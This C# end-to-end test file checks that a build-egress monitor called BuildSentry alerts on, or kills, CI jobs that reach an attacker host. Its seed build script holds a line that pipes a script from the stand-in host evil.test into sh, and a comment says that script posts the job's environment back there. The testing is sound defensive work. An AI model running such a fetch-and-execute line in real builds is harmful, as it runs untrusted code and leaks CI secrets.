using System.Text.Json;
using BuildSentry.Testing.Lab;

namespace BuildSentry.EndToEnd;

/// <summary>
/// The case BuildSentry exists for, end to end: the real daemon, real jobs, the lab's DNS and
/// servers. A build fetches a "helper" from evil.test that posts the job's environment back there.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class ScenarioTests(NetworkLabFixture fixture)
{
    private NetworkLab Lab => fixture.Lab;

    private string SeedScript => $"""
        set -e
        curl -sf http://registry.test/ok > /dev/null
        curl -sf --cacert {Lab.CertificatePath} https://registry.test/ok > /dev/null
        curl -s http://evil.test/helper.sh | sh
        echo build finished
        """;

    [Fact]
    public async Task In_audit_mode_the_seed_scenario_raises_an_alert_naming_the_job_the_curl_and_evil_test()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var job = BuildJob.Start(Lab, SeedScript);
        var result = await job.WaitAsync();

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("build finished", result.StandardOutput);
        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Names(a).Contains("evil.test")
                                                         && Argv(a).Contains("http://evil.test/helper.sh"));
        Assert.Equal(job.JobId, Str(alert, "job"));
        Assert.Equal("alerted", Str(alert, "action"));
        Assert.Equal("acme/app", Str(alert, "repository"));
        Assert.EndsWith("/curl", Str(alert, "exe"));
        Assert.Equal(["curl", "-s", "http://evil.test/helper.sh"], Argv(alert));
        Assert.Equal("lab-build", Str(alert, "profile"));
        Assert.Contains("no egress rule", Str(alert, "reason"));
        await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Names(a).Contains("evil.test"));
        Assert.DoesNotContain(daemon.AlertRecords(), a => Names(a).Contains("registry.test"));
    }

    [Fact]
    public async Task In_kill_mode_with_20_ms_of_link_delay_the_job_dies_and_the_attacker_receives_none_of_the_environment()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        var collectedBefore = CollectRequests();
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        using var job = BuildJob.Start(Lab, SeedScript);
        var result = await job.WaitAsync();

        Assert.NotEqual(0, result.ExitCode);
        Assert.DoesNotContain("build finished", result.StandardOutput);
        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "killed");
        Assert.Contains("evil.test", Names(alert));
        Assert.Empty(job.Survivors());
        Assert.Equal(collectedBefore, CollectRequests());

        var report = await ReportAsync(daemon, job);
        var kill = report.GetProperty("kill");
        var killedAt = kill.GetProperty("at").GetDateTimeOffset();
        var lastExit = report.GetProperty("processes").EnumerateArray()
            .Select(p => p.GetProperty("exited").GetDateTimeOffset()).Max();
        Assert.True(lastExit - killedAt < TimeSpan.FromMilliseconds(500), $"last process exited {(lastExit - killedAt).TotalMilliseconds} ms after the kill");
    }

    [Fact]
    public async Task A_job_with_only_allowed_traffic_raises_nothing_and_completes()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        using var job = BuildJob.Start(Lab, $"""
            set -e
            for i in 1 2 3; do curl -sf http://registry.test/ok > /dev/null; done
            curl -sf --cacert {Lab.CertificatePath} https://cdn.test/ok > /dev/null
            echo build finished
            """);
        await AssertCleanAsync(daemon, job);
    }

    /// <summary>The job finished its build, reached registry.test by name, and raised nothing.</summary>
    internal static async Task AssertCleanAsync(DaemonProcess daemon, BuildJob job)
    {
        var result = await job.WaitAsync();

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("build finished", result.StandardOutput);
        var report = await ReportAsync(daemon, job);
        Assert.Equal(0, report.GetProperty("violationCount").GetInt32());
        Assert.Contains(report.GetProperty("destinations").EnumerateArray(), d => d.GetProperty("allowed").GetBoolean()
            && d.GetProperty("names").EnumerateArray().Any(n => n.GetString() == "registry.test"));
        Assert.DoesNotContain(daemon.AlertRecords(), a => Str(a, "job") == job.JobId);
    }

    internal static int CollectRequests()
    {
        var log = Path.Combine(NetworkLab.StateDirectory, "recv", "evil.test.log");
        return File.Exists(log) ? File.ReadAllLines(log).Count(l => l.Contains("/collect", StringComparison.Ordinal)) : 0;
    }

    internal static Task<JsonElement> ReportAsync(DaemonProcess daemon, BuildJob job) => ReportAsync(daemon, job.JobId);

    internal static async Task<JsonElement> ReportAsync(DaemonProcess daemon, string jobId)
    {
        var path = Path.Combine(daemon.ReportsDirectory, jobId + ".json");
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(10);
        while (!File.Exists(path) && DateTime.UtcNow < deadline)
        {
            await Task.Delay(50);
        }

        Assert.True(File.Exists(path), $"no report at {path}:\n{daemon.Output}");
        return JsonDocument.Parse(await File.ReadAllTextAsync(path)).RootElement;
    }

    internal static string Kind(JsonElement alert) => Str(alert, "kind");

    internal static string Str(JsonElement alert, string name) =>
        alert.TryGetProperty(name, out var value) && value.ValueKind == JsonValueKind.String ? value.GetString()! : "";

    internal static IReadOnlyList<string> Names(JsonElement alert) =>
        alert.TryGetProperty("names", out var names) ? names.EnumerateArray().Select(n => n.GetString()!).ToList() : [];

    internal static IReadOnlyList<string> Argv(JsonElement alert) =>
        alert.TryGetProperty("argv", out var argv) ? argv.EnumerateArray().Select(n => n.GetString()!).ToList() : [];
}
